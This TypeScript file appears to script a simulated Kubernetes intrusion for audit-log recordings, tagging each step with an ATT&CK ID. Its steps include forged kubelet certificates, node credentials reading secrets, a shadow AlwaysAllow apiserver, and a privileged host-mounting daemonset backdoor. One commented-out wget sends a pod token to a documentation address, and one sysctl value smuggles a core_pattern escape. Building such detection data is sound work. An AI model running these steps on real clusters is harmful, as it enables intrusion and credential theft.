import { AGENTS, at, forwarded } from "./actors.ts";
import { DANA, ERIN, MALLORY } from "./people.ts";
import { binding, clusterRole, named, pod, podSpec, rule, workload } from "./setting.ts";
import { byKubectl, createdBy } from "./step.ts";
import type { Step } from "./step.ts";
import { TRICKS_ON_OBJECTS } from "./tricks-on-objects.ts";

/** Addresses for documentation (RFC 5737): nothing answers there. */
const HIDEOUT = "192.0.2.61";
const IMAGE = "registry.example/tools/alpine:3";
const NODE = "system:node:node-2";

/** What people do around the steps of {@link TRICKS}: other habits than on every other recorded day. */
export const TRICKS_DAY: readonly (readonly [string, string])[] = [
  ["dev-alice", "-n team-a rollout restart deployment/api"],
  ["dev-bob", '-n shop patch deployment web --type merge -p {"spec":{"revisionHistoryLimit":5}}'],
  ["dev-bob", "-n shop get events --sort-by=.lastTimestamp"],
  ["dev-dana", "-n team-a create configmap banner --from-literal=text=hello"],
  ["dev-dana", "-n team-a delete configmap banner --ignore-not-found"],
  ["dev-alice", "-n team-a get secret --ignore-not-found api-tls -o name"],
  ["ops-erin", "get --raw /readyz?verbose"],
  ["ops-erin", "-n kube-system get configmap coredns -o yaml"],
  ["dev-bob", "-n shop expose deployment web --name=web-test --port=8080"],
  ["dev-bob", "-n shop delete service web-test --ignore-not-found"],
  ["dev-alice", "-n team-a run curl --image=registry.example/tools/curl:8 --restart=Never -- curl -s http://api"],
  ["dev-alice", "-n team-a delete pod curl --ignore-not-found --wait=false"],
  ["dev-dana", "-n shop top pods"],
  ["ops-erin", "label node node-1 disk=ssd --overwrite"],
  ["ops-erin", "-n monitoring set resources daemonset/node-agent --limits=memory=128Mi"],
  ["dev-bob", "auth whoami"],
  ["dev-dana", "-n team-a get rolebindings"],
  ["ops-erin", "-n team-a create quota spare --hard=pods=40 --dry-run=server"],
  ["dev-alice", "-n team-a debug deploy/api --image=busybox --attach=false -- true"],
  ["dev-bob", "api-resources --cached=false"],
];

const create = createdBy(ERIN);
const createAsDana = createdBy(DANA);

/**
 * A fourth attack, of what tools and talks show that the other recordings do not have (CDK, kdigger, kubeletmein, trampoline pods, cr8escape,
 * the node and pod statuses that traffic follows), not of anybody's rules.
 */
export const TRICKS: readonly Step[] = [
  // Looking around without asking what one may do.
  raw("logs-of-the-apiserver", "T1654", ERIN, "GET", "/logs/kube-apiserver/audit.log"),
  raw("profile-of-the-apiserver", "T1005", ERIN, "GET", "/debug/pprof/heap"),
  raw("outsider-reads-flags", "T1082", MALLORY, "GET", "/flagz"),
  {
    label: "stolen-token-tried-out",
    technique: "T1528",
    principal: ERIN,
    deeds: [],
    note: "a token made just before by the administrator of the recording",
    run: async ({ actors }) => {
      const token = await actors.freshToken("ci", "ci-bot");
      return actors.send(actors.certificate(ERIN), "POST", "/apis/authentication.k8s.io/v1/tokenreviews", {
        body: { apiVersion: "authentication.k8s.io/v1", kind: "TokenReview", spec: { token } },
        headers: { "User-Agent": AGENTS.python },
      });
    },
  },
  {
    label: "who-may-read-secrets",
    technique: "T1069",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      const users = ["system:serviceaccount:ci:ci-bot", "system:serviceaccount:shop:deployer", "dev-alice", "mallory"];
      for (const user of users) {
        await actors.send(actors.certificate(ERIN), "POST", "/apis/authorization.k8s.io/v1/subjectaccessreviews", {
          body: {
            apiVersion: "authorization.k8s.io/v1",
            kind: "SubjectAccessReview",
            spec: { user, resourceAttributes: { verb: "list", resource: "secrets" } },
          },
        });
      }
      return undefined;
    },
  },
  byKubectl(["config-maps-dumped", "T1552.001", ERIN], "list:configmaps", "get configmaps -A -o yaml"),
  // Credentials of nodes and accounts.
  {
    label: "certificate-of-a-kubelet",
    technique: "T1649",
    principal: ERIN,
    deeds: [],
    run: async ({ actors }) => {
      const { request } = await actors.certificateRequest("kubelet", "/O=system:nodes/CN=system:node:node-1");
      return actors.send(actors.certificate(ERIN), "POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", {
        body: {
          ...named("CertificateSigningRequest", "certificates.k8s.io/v1", "node-csr-a1"),
          spec: {
            request: Buffer.from(request).toString("base64"),
            signerName: "kubernetes.io/kube-apiserver-client-kubelet",
            usages: ["digital signature", "client auth"],
          },
        },
      });
    },
  },
  asNode("node-reads-a-foreign-secret", "T1552.007", "GET", "/api/v1/namespaces/payments/secrets/card-vault"),
  asNode("node-makes-room-for-itself", "T1610", "PATCH", "/api/v1/nodes/node-2/status", {
    status: { capacity: { pods: "500" }, allocatable: { pods: "500" } },
  }),
  asNode("node-clears-another", "T1610", "PATCH", "/api/v1/nodes/node-0/status", {
    status: { capacity: { pods: "0" } },
  }),
  asNode(
    "node-asks-a-token-of-no-pod",
    "T1528",
    "POST",
    "/api/v1/namespaces/kube-system/serviceaccounts/backup-operator/token",
    {
      apiVersion: "authentication.k8s.io/v1",
      kind: "TokenRequest",
      spec: { expirationSeconds: 3607 },
    },
  ),
  create("bootstrap-token", "T1098", "secrets", {
    ...named("Secret", "v1", "bootstrap-token-abc123", "kube-system"),
    type: "bootstrap.kubernetes.io/token",
    stringData: {
      "token-id": "abc123",
      "token-secret": "synthetic0000000",
      "usage-bootstrap-authentication": "true",
      "auth-extra-groups": "system:bootstrappers:kubeadm:default-node-token",
    },
  }),
  byKubectl(
    ["acts-as-a-controller", "T1078", ERIN],
    "list:secrets",
    "-n ci get secrets --as=system:serviceaccount:kube-system:backup-operator",
  ),
  byKubectl(["registry-password-given-to-all", "T1525", DANA], "patch:serviceaccounts", [
    "-n",
    "shop",
    "patch",
    "serviceaccount",
    "default",
    "-p",
    '{"imagePullSecrets":[{"name":"db-credentials"}]}',
  ]),
  byKubectl(
    ["environment-from-a-secret", "T1552.007", DANA],
    "patch:deployments",
    "-n shop set env deployment/web --from=secret/db-credentials",
  ),
  createAsDana(
    "pod-sends-its-token",
    "T1528",
    "pods",
    pod(
      "shop",
      "collect",
      podSpec(
        IMAGE,
        { args: ["sh", "-c", "# wget --post-file=/run/secrets/kubernetes.io/serviceaccount/token http://192.0.2.61"] },
        { serviceAccountName: "deployer" },
      ),
    ),
  ),
  // Rights.
  create("role-bound-that-deletes-all", "T1098.006", "clusterrolebindings", {
    ...binding("cleanup", "system:controller:generic-garbage-collector", { kind: "User", name: MALLORY }),
  }),
  create("role-for-every-address", "T1098.006", "clusterroles", {
    ...clusterRole("probe", [{ nonResourceURLs: ["*"], verbs: ["*"] }]),
  }),
  create("role-to-change-statuses", "T1098.006", "clusterroles", {
    ...clusterRole("status-writer", [rule("", "nodes/status,pods/status,services/status", "patch,update")]),
  }),
  ...escapes(),
  ...TRICKS_ON_OBJECTS,
];

/** Ways out of a pod, and copies of the control plane's own pods. */
function escapes(): readonly Step[] {
  const asRoot = { securityContext: { privileged: true } };
  return [
    create(
      "second-apiserver",
      "T1610",
      "pods",
      pod(
        "kube-system",
        "kube-apiserver-cp-1-shadow",
        podSpec(
          "registry.k8s.io/kube-apiserver:v1.37.2",
          {
            command: [
              "kube-apiserver",
              "--anonymous-auth=true",
              "--authorization-mode=AlwaysAllow",
              "--secure-port=9443",
            ],
          },
          { hostNetwork: true },
        ),
      ),
    ),
    create(
      "backdoor-on-every-node",
      "T1611",
      "daemonsets",
      workload(
        "DaemonSet",
        "kube-system",
        "node-problem-fixer",
        podSpec(IMAGE, asRoot, {
          hostPID: true,
          tolerations: [{ operator: "Exists" }],
          volumes: [{ name: "host", hostPath: { path: "/" } }],
        }),
      ),
    ),
    create(
      "kernel-setting-as-an-exit",
      "T1611",
      "pods",
      pod(
        "sandbox",
        "tune",
        podSpec(
          IMAGE,
          {},
          {
            securityContext: {
              sysctls: [{ name: "kernel.shm_rmid_forced", value: "1+kernel.core_pattern=|/var/tmp/x #" }],
            },
          },
        ),
      ),
    ),
    createAsDana(
      "logs-of-the-node-mounted",
      "T1611",
      "pods",
      pod("shop", "tail", podSpec(IMAGE, {}, { volumes: [{ name: "l", hostPath: { path: "/var/log" } }] })),
    ),
    createAsDana(
      "socket-of-the-runtime",
      "T1611",
      "pods",
      pod(
        "shop",
        "build",
        podSpec(IMAGE, {}, { volumes: [{ name: "s", hostPath: { path: "/run/containerd/containerd.sock" } }] }),
      ),
    ),
    createAsDana(
      "port-of-the-node",
      "T1571",
      "pods",
      pod("shop", "relay", podSpec(IMAGE, { ports: [{ containerPort: 4444, hostPort: 4444 }] })),
    ),
    createAsDana(
      "processes-shared",
      "T1055",
      "pods",
      pod("shop", "peek", podSpec(IMAGE, { securityContext: { runAsUser: 0 } }, { shareProcessNamespace: true })),
    ),
    createAsDana(
      "windows-host-process",
      "T1611",
      "pods",
      pod(
        "shop",
        "winnode",
        podSpec(
          IMAGE,
          {},
          {
            hostNetwork: true,
            nodeSelector: { "kubernetes.io/os": "windows" },
            securityContext: { windowsOptions: { hostProcess: true, runAsUserName: "NT AUTHORITY\\SYSTEM" } },
          },
        ),
      ),
    ),
  ];
}

function raw(label: string, technique: string, principal: string, method: string, path: string): Step {
  return {
    label,
    technique,
    principal,
    deeds: [],
    run: ({ actors }) => actors.send(actors.certificate(principal), method, path),
  };
}

function asNode(label: string, technique: string, method: string, path: string, body?: unknown): Step {
  return {
    label,
    technique,
    principal: NODE,
    deeds: [],
    note: "the certificate of a kubelet, used through a proxy for an address that is not the node's",
    run: async ({ actors }) => {
      const answer = await actors.send(actors.certificate(NODE), method, path, {
        headers: forwarded(HIDEOUT, AGENTS.kubelet),
        ...(body !== undefined && { body }),
      });
      return at(answer, "status");
    },
  };
}
